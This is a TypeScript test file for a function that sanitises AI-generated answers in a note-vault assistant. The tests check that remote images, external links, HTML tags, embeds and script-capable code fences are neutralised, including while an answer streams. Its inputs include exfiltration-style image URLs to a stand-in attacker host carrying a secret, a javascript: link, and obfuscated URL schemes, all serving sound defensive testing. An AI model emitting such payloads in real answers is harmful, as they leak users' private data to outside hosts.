import { describe, expect, it } from "vitest";
import { holdPoint, neutraliseAnswer, SAFE_LANGUAGES } from "../src/answer/neutralise";
import { parseAskEvent } from "../src/sidecar/wire";
import { askLines } from "./helpers";

const EVIL = "https://evil.example/p.png?q=secret";
const kinds = (text: string, streaming = false) =>
	neutraliseAnswer(text, { streaming }).neutralised.map((n) => `${n.kind}:${n.target ?? "-"}`);

describe("neutraliseAnswer: the docs/api.md rules, outside code", () => {
	it.each([
		// Remote images never render; the note names the host only.
		["remote image", `See ![x](${EVIL}) here`, "See \\[image removed: evil.example\\] here", ["image:evil.example"]],
		["protocol-relative image", "![x](//evil.example/p.png)", "\\[image removed: evil.example\\]", ["image:evil.example"]],
		["image with a title", '![x](https://evil.example/p.png "t")', "\\[image removed: evil.example\\]", ["image:evil.example"]],
		["image in angle brackets with a space", "![x](<https://evil.example/a b.png>)", "\\[image removed: evil.example\\]", ["image:evil.example"]],
		["alt text over two lines", "![a\nb](https://evil.example/p.png)", "\\[image removed: evil.example\\]", ["image:evil.example"]],
		["nested brackets in the alt text", "![a [b] c](https://evil.example/p.png)", "\\[image removed: evil.example\\]", ["image:evil.example"]],
		["scheme hidden by a character reference", "![x](https&#58;//evil.example/p.png)", "\\[image removed: evil.example\\]", ["image:evil.example"]],
		["scheme hidden by a backslash escape", "![x](https\\://evil.example/p.png)", "\\[image removed: evil.example\\]", ["image:evil.example"]],
		["scheme split by a tab", "![x](<ht\ttps://evil.example/p.png>)", "\\[image removed: evil.example\\]", ["image:evil.example"]],
		["data: image", "![x](data:image/png;base64,AAAA)", "\\[image removed: data\\]", ["image:data"]],
		["reference image", `![x][r]\n\n[r]: ${EVIL}`, "\\[image removed\\]\n", ["image:-", "definition:evil.example"]],
		["shortcut reference image", `![r]\n\n[r]: ${EVIL}`, "\\![r]\n", ["definition:evil.example"]],
		["definition with its URL on the next line", `[r]:\n${EVIL}\n\n[a][r]`, "\n[a][r]", ["definition:evil.example"]],
		["local image stays", "![chart](attachments/chart.png)", "![chart](attachments/chart.png)", []],
		["local image with spaces", "![chart](<my chart.png>)", "![chart](my%20chart.png)", []],
		// Embeds would pull a note (an excluded one too) into the chat.
		["wiki embed", "![[Private/Secret note]]", "[[Private/Secret note]]", ["embed:-"]],
		["Markdown embed of a note", "![x](Private/secret.md)", "[x](Private/secret.md)", ["embed:-"]],
		// Links to anything but a vault path become text with the URL in code.
		["external link", "[site](https://evil.example)", "site (`https://evil.example`)", ["link:evil.example"]],
		["numeric label keeps its brackets", "[1](https://evil.example)", "[1] (`https://evil.example`)", ["link:evil.example"]],
		["javascript: link", "[click](javascript:alert(1))", "click (`javascript:alert(1)`)", ["link:javascript"]],
		["obsidian: link", "[open](obsidian://open?vault=x)", "open (`obsidian://open?vault=x`)", ["link:open"]],
		["link around a remote image", `[![x](${EVIL})](https://evil.example)`, "\\[image removed: evil.example\\] (`https://evil.example`)", ["image:evil.example", "link:evil.example"]],
		["autolink", "<https://evil.example/x>", "`https://evil.example/x`", ["link:evil.example"]],
		["bare URL, sentence punctuation left outside", `see ${EVIL}.`, `see \`${EVIL}\`.`, ["link:evil.example"]],
		["bare www. address", "go to www.evil.example now", "go to `www.evil.example` now", ["link:www.evil.example"]],
		["local link stays", "[Kodi](Homelab/Kodi.md#Maintenance)", "[Kodi](Homelab/Kodi.md#Maintenance)", []],
		["wikilink stays", "[[Homelab/Kodi#Maintenance|Kodi]]", "[[Homelab/Kodi#Maintenance|Kodi]]", []],
		// Every HTML tag is escaped; a tag's source host is named.
		["img tag", '<img src="https://evil.example/p.png">', '&lt;img src="`https://evil.example/p.png`">', ["html:evil.example", "link:evil.example"]],
		["iframe tag", "<iframe>x</iframe>", "&lt;iframe>x&lt;/iframe>", ["html:iframe", "html:iframe"]],
		["a lone < is text", "a < b", "a &lt; b", []],
		// Code: shown as written; only plain highlighters keep their language; Dataview inline queries are prefixed.
		["dataviewjs block", "```dataviewjs\ndv.el('b', 'x')\n```", "```text\ndv.el('b', 'x')\n```", ["code:dataviewjs"]],
		["tasks block with tildes", "~~~tasks\nnot done\n~~~", "~~~text\nnot done\n~~~", ["code:tasks"]],
		["mermaid, info string dropped", "```mermaid theme\ngraph TD\n```", "```text\ngraph TD\n```", ["code:mermaid"]],
		["python block kept as written", "```python\nprint('<img src=https://x>')\n```", "```python\nprint('<img src=https://x>')\n```", []],
		["fence inside a list item", "- a\n\n    ```dataview\n    LIST\n    ```", "- a\n\n    ```text\n    LIST\n    ```", ["code:dataview"]],
		["fence inside a quote", "> ```query\n> tag:#x\n> ```", "> ```text\n> tag:#x\n> ```", ["code:query"]],
		["Dataview inline queries", "`= this.file.name` and `$= dv.current()`", "`(query) = this.file.name` and `(query) $= dv.current()`", ["code:dataview", "code:dataview"]],
		["inline code stays as written", "Run `ps aux | grep <x>` now", "Run `ps aux | grep <x>` now", []],
		// Where a renderer's code is not where a naive scan thinks it is, the text is prose and made inert.
		["a longer fence closes a fence", `\`\`\`\ncode\n\`\`\`\`\n![x](${EVIL})`, "```\ncode\n````\n\\[image removed: evil.example\\]", ["image:evil.example"]],
		["an info string with a backtick is no fence", `\`\`\`a\`b\n![x](${EVIL})`, "\\`\\`\\`a\\`b\n\\[image removed: evil.example\\]", ["image:evil.example"]],
		["a tab-indented fence is indented code", `\t\`\`\`\n![x](${EVIL})\n\t\`\`\``, "\t```\n\\[image removed: evil.example\\]\n\t```", ["image:evil.example"]],
		["a list item's fence ends with the item", `- item\n  \`\`\`\n![x](${EVIL})\n  \`\`\``, "- item\n  ```\n\\[image removed: evil.example\\]\n  ```", ["image:evil.example"]],
		["an escaped backtick opens no code span", `\\\`![x](${EVIL}) \`y\``, "\\`\\[image removed: evil.example\\] `y`", ["image:evil.example"]],
		["code spans do not cross paragraphs", `\`a\n\n![x](${EVIL})\n\nb\``, "\\`a\n\n\\[image removed: evil.example\\]\n\nb\\`", ["image:evil.example"]],
		["table cells split code spans", `| a | b |\n|---|---|\n| \`x | ![y](${EVIL}) | z\` |`, "| a | b |\n|---|---|\n| \\`x | \\[image removed: evil.example\\] | z\\` |", ["image:evil.example"]],
		["math that could close inside code", `$\`$ ![x](${EVIL}) \``, "$\\`$ \\[image removed: evil.example\\] \\`", ["image:evil.example"]],
		["a link destination taken before a backtick", `[a](https://e.example/\`) ![x](${EVIL}) \``, "a (`https://e.example/`) \\[image removed: evil.example\\] \\`", ["link:e.example", "image:evil.example"]],
		["an unmatched `](` cannot become a link", "x](https://evil.example)", "x]\\(`https://evil.example`)", ["link:evil.example"]],
		// Ordinary answers pass through untouched.
		["citations, tasks and a callout", "> [!note] Port\n> 5433 [1]\n\n- [ ] check [2]", "> [!note] Port\n> 5433 [1]\n\n- [ ] check [2]", []],
		["footnote definitions are not link definitions", "x[^1]\n\n[^1]: from the note", "x[^1]\n\n[^1]: from the note", []],
	])("%s", (_name, input, expected, expectedKinds) => {
		const safe = neutraliseAnswer(input);
		expect(safe.text).toBe(expected);
		expect(safe.neutralised.map((n) => `${n.kind}:${n.target ?? "-"}`)).toEqual(expectedKinds);
		expect(safe.held).toBe(0);
	});
});

describe("neutraliseAnswer while streaming: an unfinished construct is held back", () => {
	it.each([
		["an image still being written", `Port 5433 ![x](https://evil.exa`, "Port 5433 ", 21],
		["an image's alt text", "Port 5433 ![a diagram of", "Port 5433 ", 14],
		["a link still being written", "See [site](https://evil", "See ", 19],
		["an embed", "Also ![[Secret", "Also ", 9],
		["a lone ! that may start an image", "Wow!", "Wow", 1],
		["a tag", "a <im", "a ", 3],
		["a bracket that may still get a destination", "port 5433 [1]", "port 5433 ", 3],
		["a fence opener whose language is not known yet", "Run:\n```data", "Run:\n", 7],
		["two backticks at a line start", "Run:\n``", "Run:\n", 2],
		["a definition line", "x\n\n[r]: https://evil", "x\n\n", 17],
		["a finished image shows, inert", `![x](${EVIL}) and`, "\\[image removed: evil.example\\] and", 0],
		["a citation followed by text shows", "port 5433 [1].", "port 5433 [1].", 0],
		["a < that is no tag shows", "a < b", "a &lt; b", 0],
		["an open fence shows as code, its language already safe", "```dataview\nLIST", "```text\nLIST", 0],
		["an open code span shows as text", "Run `ls -la", "Run \\`ls -la", 0],
		["a held construct in an earlier paragraph line", "See [the\nsite", "See ", 9],
		["a stray [ far back no longer holds", `[${"x".repeat(700)}`, `[${"x".repeat(700)}`, 0],
	])("%s", (_name, input, shown, held) => {
		const safe = neutraliseAnswer(input, { streaming: true });
		expect(safe.text).toBe(shown);
		expect(safe.held).toBe(held);
		expect(holdPoint(input)).toBe(input.length - held);
	});

	it("when the stream ends the held text shows, inert", () => {
		expect(neutraliseAnswer("Port 5433 ![x](https://evil.exa").text).toBe("Port 5433 \\![x]\\(`https://evil.exa`");
		expect(kinds("Wow!")).toEqual([]);
		expect(neutraliseAnswer("Wow!").text).toBe("Wow!");
	});
});

describe("agreement with the sidecar's neutraliser", () => {
	const events = askLines().map((l) => parseAskEvent(l));
	const done = events[events.length - 1];
	const tokens = events.flatMap((e) => (e?.type === "token" ? [e.text] : []));

	it("the golden stream: the raw tokens render as the sidecar's final answer does, at every step", () => {
		if (done?.type !== "done") throw new Error("the golden stream ends with done");
		const unescape = (s: string) => s.replace(/\\([[\]])/g, "$1");
		let text = "";
		for (const token of tokens) {
			text += token;
			const shown = neutraliseAnswer(text, { streaming: true }).text;
			expect(shown).not.toContain("https://");
			expect(done.answer.startsWith(unescape(shown).trimEnd())).toBe(true);
		}
		const final = neutraliseAnswer(text);
		expect(unescape(final.text)).toBe(done.answer);
		expect(final.neutralised).toEqual(done.neutralised);
	});

	it.each([
		// Outputs of backend/askvault/generate/answer_safety.py: made inert once, nothing more to do.
		["image", "Port 5433 [1]. [image removed: evil.example]"],
		["link", "See site (`https://evil.example`) and [1] (`https://evil.example/a`)."],
		["tag", '&lt;img src="`https://evil.example/p.png`"> and &lt;/div>'],
		["embed", "[[Private/Secret note]]"],
		["fence", "```text\nLIST FROM #x\n```"],
		["inline query", "`(query) = this.file.name`"],
	])("leaves the sidecar's inert %s as it is", (_name, sidecar) => {
		const safe = neutraliseAnswer(sidecar);
		expect(safe.text).toBe(sidecar);
		expect(safe.neutralised).toEqual([]);
	});

	it("keeps the sidecar's list of plain highlighter languages", () => {
		for (const language of ["python", "ts", "bash", "json", "yaml", "text", "c++", "dockerfile"]) expect(SAFE_LANGUAGES.has(language)).toBe(true);
		for (const language of ["dataview", "dataviewjs", "tasks", "mermaid", "query", "button", "ad-note"]) expect(SAFE_LANGUAGES.has(language)).toBe(false);
	});
});
